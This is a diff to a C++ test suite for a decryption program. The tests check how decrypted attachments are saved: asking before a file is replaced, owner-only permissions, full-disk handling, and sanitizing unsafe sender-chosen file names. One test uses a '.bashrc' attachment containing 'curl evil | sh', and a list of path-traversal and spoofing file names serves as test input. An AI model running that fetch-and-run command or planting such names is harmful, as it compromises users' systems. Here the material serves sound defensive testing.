@@ -4,6 +4,7 @@
 #include "pipeline/DecryptPipeline.h"
 #include "pipeline/Dialogs.h"
 #include "pipeline/EncryptPipeline.h"
+#include "support/FullFileSystem.h"
 #include "texts/Language.h"
 #include "vectors/CiphertextMaker.h"
 
@@ -13,7 +14,11 @@
 #include <QFileInfo>
 #include <QTemporaryDir>
 
+#include <optional>
+
 #include <gtest/gtest.h>
+
+#include <sys/stat.h>
 
 namespace {
 
@@ -57,10 +62,12 @@ class DecryptPipelineTest : public ::testing::Test {
     void TearDown() override
     {
         EXPECT_TRUE(FilesUnder("work").isEmpty()) << FilesUnder("work").join(' ').toStdString();
-        for (const MessageRequest& box : dialogs.messages())
-            if (box.title != Text(382)) // the no-key box has its own title
+        for (const MessageRequest& box : dialogs.messages()) {
+            if (box.title != Text(382)) { // the no-key box has its own title
                 EXPECT_EQ(box.title, Language::GetProgramText(DecryptTexts::CommandCaption, request.language))
                     << box.text.toStdString();
+            }
+        }
     }
 
     QString Path(const QString& name) const { return dir.path() + '/' + name; }
@@ -235,8 +242,7 @@ TEST_F(DecryptPipelineTest, FilesThatAreNoCiphertextAreToldApart)
         {"shorter than 12 bytes", QByteArray("PK\x03\x04 short", 10), Text(407)},
         {"larger than any ciphertext file", tooLarge, Text(417)},
         {"header length past the end", pointsPastEnd, Text(407)},
-        {"empty body", headerOnly,
-         Text(86) + " " + QDir::toNativeSeparators(Path("work/temp_zeb001")) + ":" + CrLf + "Nothing to write."},
+        {"empty body", headerOnly, Text(421)},
     };
     for (const Case& c : cases) {
         SCOPED_TRACE(c.label);
@@ -360,17 +366,107 @@ TEST_F(DecryptPipelineTest, GermanClosingMessageEndsWithKlicken)
               de(67) + CrLf + CrLf + de(106) + CrLf + de(107) + CrLf + "'" + de(1) + "' klicken.");
 }
 
-TEST_F(DecryptPipelineTest, AnExistingFileOfTheSameNameIsReplaced)
+struct ExistingFileCase {
+    const char* label;
+    std::optional<DialogAnswer> answer; // none: the question's default
+    QStringList filesAfter;
+    QByteArray notesAfter;
+    bool saved;
+};
+
+class DecryptExistingFileTest : public DecryptPipelineTest, public ::testing::WithParamInterface<ExistingFileCase> {};
+
+// A file of the attached name is the user's: it is replaced only when the user says so.
+TEST_P(DecryptExistingFileTest, AsksBeforeReplacingAndOffersAFreeName)
 {
-    ASSERT_TRUE(CiphertextMaker::write_file(Path("out/notes.txt"), "an older, longer version of the notes"));
+    const ExistingFileCase& c = GetParam();
+    ASSERT_TRUE(CiphertextMaker::write_file(Path("out/notes.txt"), "the user's own notes"));
     WriteAttachment("notes.txt", "new notes");
     dialogs.queuePath(Path("out"));
+    if (c.answer)
+        dialogs.queueAnswer(*c.answer);
 
     const DecryptOutcome outcome = Decrypt();
 
     EXPECT_EQ(outcome.status, DecryptStatus::Success);
-    EXPECT_EQ(CiphertextMaker::read_file(Path("out/notes.txt")), "new notes");
-    EXPECT_EQ(FilesUnder("out"), QStringList{"notes.txt"});
+    EXPECT_EQ(outcome.message, "The file is attached.");
+    const MessageRequest question = dialogs.messages().at(1);
+    EXPECT_EQ(question.text,
+              Text(418) + CrLf + CrLf + QDir::toNativeSeparators(Path("out/notes.txt")) + CrLf + "notes (2).txt");
+    EXPECT_EQ(question.buttons, DialogButtons::YesNoCancel);
+    EXPECT_EQ(question.defaultButton, 1) << "the free name, which loses nothing, is the default";
+    EXPECT_EQ(FilesUnder("out"), c.filesAfter);
+    EXPECT_EQ(CiphertextMaker::read_file(Path("out/notes.txt")), c.notesAfter);
+    EXPECT_EQ(outcome.attachmentAbandoned, !c.saved);
+    if (c.saved) {
+        EXPECT_EQ(QFileInfo(outcome.writtenFilePath).fileName(),
+                  c.answer == DialogAnswer::Yes ? "notes.txt" : "notes (2).txt");
+    }
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Answers, DecryptExistingFileTest,
+    ::testing::Values(
+        ExistingFileCase{"Replace", DialogAnswer::Yes, {"notes.txt"}, "new notes", true},
+        ExistingFileCase{"FreeName", DialogAnswer::No, {"notes (2).txt", "notes.txt"}, "the user's own notes", true},
+        ExistingFileCase{"Default", std::nullopt, {"notes (2).txt", "notes.txt"}, "the user's own notes", true},
+        ExistingFileCase{"Cancel", DialogAnswer::Cancel, {"notes.txt"}, "the user's own notes", false}),
+    [](const auto& info) { return std::string(info.param.label); });
+
+TEST_F(DecryptPipelineTest, TheFileBeingDecryptedIsNeverReplaced)
+{
+    WriteAttachment("message.zip", "an attachment named like the ciphertext");
+    const QByteArray ciphertext = CiphertextMaker::read_file(request.ciphertextPath);
+    dialogs.queuePath(Path("in"));
+
+    const DecryptOutcome outcome = Decrypt();
+
+    EXPECT_EQ(outcome.status, DecryptStatus::Success);
+    EXPECT_EQ(dialogs.messages().at(1).text, Text(424) + CrLf + CrLf + "message (2).zip");
+    EXPECT_EQ(CiphertextMaker::read_file(request.ciphertextPath), ciphertext);
+    EXPECT_EQ(CiphertextMaker::read_file(Path("in/message (2).zip")), "an attachment named like the ciphertext");
+}
+
+TEST_F(DecryptPipelineTest, AHiddenNameIsSavedOnlyWhenTheUserSaysSo)
+{
+    for (const DialogAnswer answer : {DialogAnswer::No, DialogAnswer::Yes}) {
+        SCOPED_TRACE(answer == DialogAnswer::Yes ? "Yes" : "No");
+        dialogs.clear();
+        WriteAttachment(".bashrc", "curl evil | sh");
+        dialogs.queuePath(Path("out"));
+        dialogs.queueAnswer(answer);
+
+        const DecryptOutcome outcome = Decrypt();
+
+        EXPECT_EQ(outcome.status, DecryptStatus::Success);
+        const MessageRequest question = dialogs.messages().at(1);
+        EXPECT_EQ(question.text, Text(420) + CrLf + CrLf + ".bashrc");
+        EXPECT_EQ(question.defaultButton, 1);
+        EXPECT_EQ(QFileInfo::exists(Path("out/.bashrc")), answer == DialogAnswer::Yes);
+        EXPECT_EQ(outcome.attachmentAbandoned, answer == DialogAnswer::No);
+    }
+}
+
+// The attached file is decrypted plain text: nobody but the user may read it, even under umask 000.
+// A file the user agreed to replace keeps its own mode.
+TEST_F(DecryptPipelineTest, TheAttachedFileIsCreatedForTheUserAlone)
+{
+    WriteAttachment("notes.txt", "new notes");
+    dialogs.queuePath(Path("out"));
+    const mode_t oldMask = umask(0);
+    const DecryptOutcome outcome = Decrypt();
+    umask(oldMask);
+    ASSERT_EQ(outcome.status, DecryptStatus::Success);
+    const QByteArray written = QFile::encodeName(Path("out/notes.txt"));
+    struct stat status {};
+    ASSERT_EQ(stat(written.constData(), &status), 0);
+    EXPECT_EQ(status.st_mode & 07777, 0600u);
+
+    ASSERT_EQ(chmod(written.constData(), 0640), 0);
+    dialogs.queuePath(Path("out"));
+    ASSERT_EQ(Decrypt().status, DecryptStatus::Success);
+    ASSERT_EQ(stat(written.constData(), &status), 0);
+    EXPECT_EQ(status.st_mode & 07777, 0640u) << "replaced with consent, mode kept";
 }
 
 TEST_F(DecryptPipelineTest, ALinkAtTheTargetIsReplacedAndItsTargetKept)
@@ -379,6 +475,7 @@ TEST_F(DecryptPipelineTest, ALinkAtTheTargetIsReplacedAndItsTargetKept)
     ASSERT_TRUE(QFile::link(Path("scratch/precious.txt"), Path("out/notes.txt")));
     WriteAttachment("notes.txt", "new notes");
     dialogs.queuePath(Path("out"));
+    dialogs.queueAnswer(DialogAnswer::Yes); // replace
 
     const DecryptOutcome outcome = Decrypt();
 
@@ -386,6 +483,46 @@ TEST_F(DecryptPipelineTest, ALinkAtTheTargetIsReplacedAndItsTargetKept)
     EXPECT_FALSE(QFileInfo(Path("out/notes.txt")).isSymLink());
     EXPECT_EQ(CiphertextMaker::read_file(Path("out/notes.txt")), "new notes");
     EXPECT_EQ(CiphertextMaker::read_file(Path("scratch/precious.txt")), "keep me");
+}
+
+TEST_F(DecryptPipelineTest, AnEmptyMessageAndAnEmptyFileAreAValidPackage)
+{
+    WritePackage(BuildPlainPackage("", "empty.txt", ""));
+    dialogs.queuePath(Path("out"));
+
+    const DecryptOutcome outcome = Decrypt();
+
+    EXPECT_EQ(outcome.status, DecryptStatus::Success) << BoxTexts().join('|').toStdString();
+    EXPECT_EQ(outcome.message, QString());
+    EXPECT_TRUE(QFileInfo::exists(Path("out/empty.txt")));
+    EXPECT_EQ(QFileInfo(Path("out/empty.txt")).size(), 0);
+}
+
+TEST_F(DecryptPipelineTest, TheMessageBytesComeBackExactlyEvenWhenNotUtf8)
+{
+    const QByteArray bytes("caf\xE9 \xC3\xBC\xFF\x00end", 13);
+    WritePackage(BuildPlainPackage(bytes, {}, "filler"));
+
+    const DecryptOutcome outcome = Decrypt();
+
+    EXPECT_EQ(outcome.status, DecryptStatus::Success);
+    EXPECT_EQ(outcome.messageBytes, bytes);
+}
+
+TEST_F(DecryptPipelineTest, APackageShorterThanItsFieldsIsDamagedWithoutAQuestion)
+{
+    for (const QByteArray& package : {QByteArray(), QByteArray("0000"), QByteArray(39, '0')}) {
+        SCOPED_TRACE(package.size());
+        dialogs.clear();
+        WritePackage(package);
+        dialogs.queueAnswer(DialogAnswer::Yes); // would accept a check-value mismatch, if asked
+
+        const DecryptOutcome outcome = Decrypt();
+
+        EXPECT_EQ(outcome.status, DecryptStatus::WrongKeyOrDamaged);
+        EXPECT_FALSE(outcome.message.has_value());
+        EXPECT_EQ(BoxTexts(), QStringList{Text(408)});
+    }
 }
 
 TEST_F(DecryptPipelineTest, AFailedWriteKeepsTheMessageAndSaysWhy)
@@ -406,59 +543,126 @@ TEST_F(DecryptPipelineTest, AFailedWriteKeepsTheMessageAndSaysWhy)
     EXPECT_FALSE(QFileInfo::exists(Path("no such folder")));
 }
 
-struct UnsafeName {
-    const char* label;
-    QByteArray name;
-};
+class DecryptFullDiskTest : public DecryptPipelineTest, public ::testing::WithParamInterface<qsizetype> {};
 
-class DecryptUnsafeNameTest : public DecryptPipelineTest, public ::testing::WithParamInterface<UnsafeName> {};
-
-// The sender chooses the name; whatever it is, nothing may land outside the chosen folder or under
-// a name the system treats as something else. The message still reaches the user.
-TEST_P(DecryptUnsafeNameTest, IsRefusedAndNothingIsWritten)
+// The chosen folder is on a file system that runs full while the attached file is written.
+TEST_P(DecryptFullDiskTest, AnAttachedFileThatDoesNotFitIsReportedAndTheEarlierFileKept)
 {
-    ASSERT_FALSE(Text(415).isEmpty());
-    WriteAttachment(GetParam().name, "payload that must not land anywhere");
-    dialogs.queuePath(Path("out/inner"));
-    QDir(Path("out")).mkpath("inner");
+    const qsizetype size = GetParam();
+    FullFileSystem disk;
+    if (!disk.mounted())
+        GTEST_SKIP() << disk.reason();
+    ASSERT_TRUE(disk.write("big.bin", "the user's earlier file"));
+    WriteAttachment("big.bin", QByteArray(size, 'A'));
+    ASSERT_TRUE(disk.fill(size / 2));
+    dialogs.queuePath(disk.path());
+    dialogs.queueAnswer(DialogAnswer::Yes); // replace
 
     const DecryptOutcome outcome = Decrypt();
 
     EXPECT_EQ(outcome.status, DecryptStatus::AttachmentNotWritten);
     EXPECT_EQ(outcome.message, "The file is attached.");
-    EXPECT_TRUE(outcome.showFolderFrame);
-    EXPECT_EQ(outcome.appendedFileCaption, Text(43));
-    EXPECT_EQ(BoxTexts(), QStringList{Text(415)});
-    EXPECT_EQ(dialogs.messages()[0].icon, DialogIcon::Exclamation);
-    EXPECT_EQ(ChooserCount(), 0);
-    EXPECT_EQ(FilesUnder("out"), QStringList{"inner"});
-    EXPECT_EQ(FilesUnder("in"), QStringList{"message.zip"});
-    EXPECT_TRUE(FilesUnder("scratch").isEmpty());
-    EXPECT_EQ(QDir(dir.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot),
-              (QStringList{"in", "out", "scratch", "work"}));
+    EXPECT_TRUE(outcome.closingMessage.isEmpty()) << "no success is reported";
+    EXPECT_EQ(BoxTexts().last(), Text(31) + " " + disk.path() + ":" + CrLf + "Disk full.");
+    EXPECT_EQ(CiphertextMaker::read_file(disk.filePath("big.bin")), "the user's earlier file");
+    EXPECT_EQ(QDir(disk.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot),
+              (QStringList{"big.bin", "zz-filler"}));
+}
+
+INSTANTIATE_TEST_SUITE_P(Sizes, DecryptFullDiskTest, ::testing::Values(100, 16 * 1024, 2'000'000));
+
+TEST_F(DecryptPipelineTest, AWorkingFolderThatFillsUpIsAnInputOutputFailure)
+{
+    FullFileSystem disk;
+    if (!disk.mounted())
+        GTEST_SKIP() << disk.reason();
+    QByteArray noise(300'000, '\0');
+    for (qsizetype i = 0; i < noise.size(); ++i)
+        noise[i] = static_cast<char>((i * 2654435761u) >> 13);
+    WriteAttachment("random.bin", noise);
+    const qint64 body = QFileInfo(request.ciphertextPath).size();
+    // Room for the copy of the body, not for what the engine makes of it.
+    ASSERT_TRUE(disk.fill(body + 64 * 1024));
+    request.workingFolderBase = disk.path();
+    dialogs.queuePath(Path("out"));
+
+    const DecryptOutcome outcome = Decrypt();
+
+    EXPECT_EQ(outcome.status, DecryptStatus::Failed);
+    EXPECT_FALSE(outcome.message.has_value());
+    ASSERT_EQ(dialogs.messages().size(), 1u);
+    EXPECT_TRUE(dialogs.messages()[0].text.startsWith(Text(422) + " " + disk.path()))
+        << dialogs.messages()[0].text.toStdString();
+    EXPECT_TRUE(dialogs.messages()[0].text.endsWith(CrLf + "Disk full.")) << dialogs.messages()[0].text.toStdString();
+    EXPECT_EQ(QDir(disk.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot),
+              QStringList{"zz-filler"});
+    request.workingFolderBase = Path("work");
+}
+
+struct UnsafeName {
+    const char* label;
+    QByteArray name;
+    QString derived;
+};
+
+class DecryptUnsafeNameTest : public DecryptPipelineTest, public ::testing::WithParamInterface<UnsafeName> {};
+
+// The sender chooses the name; whatever it is, nothing may land outside the chosen folder or under a
+// name that misleads. The user is shown a safe name made from it and decides; the message stays.
+TEST_P(DecryptUnsafeNameTest, IsOfferedUnderASafeNameShownFirst)
+{
+    const UnsafeName& c = GetParam();
+    QDir(Path("out")).mkpath("inner");
+    for (const DialogAnswer answer : {DialogAnswer::No, DialogAnswer::Yes}) {
+        SCOPED_TRACE(answer == DialogAnswer::Yes ? "Yes" : "No");
+        dialogs.clear();
+        WriteAttachment(c.name, "payload");
+        dialogs.queueAnswer(answer);
+        dialogs.queuePath(Path("out/inner"));
+        dialogs.queueAnswer(DialogAnswer::Yes); // a hidden derived name, if asked
+
+        const DecryptOutcome outcome = Decrypt();
+
+        EXPECT_EQ(outcome.message, "The file is attached.");
+        EXPECT_EQ(dialogs.messages().at(0).text, Text(419) + CrLf + CrLf + c.derived);
+        EXPECT_EQ(dialogs.messages().at(0).defaultButton, 0);
+        if (answer == DialogAnswer::No) {
+            EXPECT_EQ(outcome.status, DecryptStatus::AttachmentNotWritten);
+            EXPECT_EQ(BoxTexts().last(), Text(415));
+            EXPECT_EQ(ChooserCount(), 0);
+            EXPECT_EQ(FilesUnder("out"), QStringList{"inner"});
+        } else {
+            EXPECT_EQ(outcome.status, DecryptStatus::Success);
+            EXPECT_EQ(FilesUnder("out"), (QStringList{"inner", "inner/" + c.derived}));
+            EXPECT_EQ(CiphertextMaker::read_file(Path("out/inner/") + c.derived), "payload");
+        }
+        EXPECT_EQ(FilesUnder("in"), QStringList{"message.zip"});
+        EXPECT_TRUE(FilesUnder("scratch").isEmpty());
+        EXPECT_EQ(QDir(dir.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot),
+                  (QStringList{"in", "out", "scratch", "work"}));
+        QFile::remove(Path("out/inner/") + c.derived);
+    }
 }
 
 INSTANTIATE_TEST_SUITE_P(
     Classes, DecryptUnsafeNameTest,
-    ::testing::Values(UnsafeName{"SlashInside", "sub/evil.txt"}, UnsafeName{"ParentBySlash", "../evil.txt"},
-                      UnsafeName{"AbsolutePath", "/tmp/evil.txt"}, UnsafeName{"Backslash", "..\\evil.txt"},
-                      UnsafeName{"UncPrefix", "\\\\server\\share"}, UnsafeName{"Dot", "."}, UnsafeName{"DotDot", ".."},
-                      UnsafeName{"DrivePrefix", "C:evil.txt"},
-                      UnsafeName{"ControlCharacter", QByteArray("evil\x01.txt")},
-                      UnsafeName{"LineBreak", QByteArray("evil\n.txt")},
-                      UnsafeName{"RightToLeftOverride", QStringLiteral("invoice\u202Etxt.exe").toUtf8()},
-                      UnsafeName{"InvalidUtf8", QByteArray("\xff\xfe.txt")},
-                      UnsafeName{"OverlongSlash", QByteArray("..\xc0\xaf"
-                                                             "evil")},
-                      UnsafeName{"Longer255Bytes", QByteArray(252, 'a') + ".txt"}, UnsafeName{"DeviceName", "CON"},
-                      UnsafeName{"DeviceWithExtension", "nul.txt"}, UnsafeName{"NumberedPortAnyCase", "Lpt9.log"},
-                      UnsafeName{"SerialPort", "com1.tar.gz"}),
+    ::testing::Values(UnsafeName{"SlashInside", "sub/evil.txt", "sub_evil.txt"},
+                      UnsafeName{"ParentBySlash", "../evil.txt", ".._evil.txt"},
+                      UnsafeName{"AbsolutePath", "/tmp/evil.txt", "_tmp_evil.txt"},
+                      UnsafeName{"UncPrefix", "\\\\server\\share", "__server_share"}, UnsafeName{"DotDot", "..", "__"},
+                      UnsafeName{"LineBreak", QByteArray("evil\n.txt"), "evil_.txt"},
+                      UnsafeName{"C1Control", QByteArray("evil\xC2\x9B.txt"), "evil_.txt"},
+                      UnsafeName{"RightToLeftOverride", QStringLiteral("invoice\u202Etxt.exe").toUtf8(),
+                                 "invoice_txt.exe"},
+                      UnsafeName{"InvalidUtf8", QByteArray("\xff.txt"), "_.txt"},
+                      UnsafeName{"Longer255Bytes", QByteArray(252, 'a') + ".txt", QString(251, 'a') + ".txt"}),
     [](const ::testing::TestParamInfo<UnsafeName>& info) { return std::string(info.param.label); });
 
 TEST_F(DecryptPipelineTest, PlainNamesCloseToTheRefusedOnesAreWritten)
 {
-    const QByteArray names[] = {"report.pdf",  "icon.png", "com10.txt",
-                                "console.log", "..hidden", QByteArray(251, 'a') + ".txt"};
+    // Names only Windows refuses are ordinary names here.
+    const QByteArray names[] = {"report.pdf", "icon.png", "com10.txt", "console.log", "aux.c",
+                                "con.h",      "a:b.txt",  "NUL",       "C:evil.txt",  QByteArray(251, 'a') + ".txt"};
     for (const QByteArray& name : names) {
         SCOPED_TRACE(name.constData());
         dialogs.clear();
